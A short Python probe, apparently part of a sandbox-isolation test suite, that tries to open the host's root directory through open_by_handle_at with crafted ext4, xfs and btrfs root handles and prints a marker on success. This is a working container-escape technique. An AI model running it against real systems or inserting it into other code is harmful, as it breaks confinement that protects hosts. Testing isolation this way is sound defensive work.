"""Open a file of the host by its handle, past every path.

layer: calls
plain: depends, on the file system of the temporary folder and the rights of the user
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
root = os.open("/", os.O_RDONLY)
for number in (2, 128, 256):  # the root of ext4, xfs and btrfs
    handle = struct.pack("<IiII", 8, 1, number, 0)
    if libc.open_by_handle_at(root, ctypes.create_string_buffer(handle), os.O_RDONLY) >= 0:
        print(MARKER)
        break
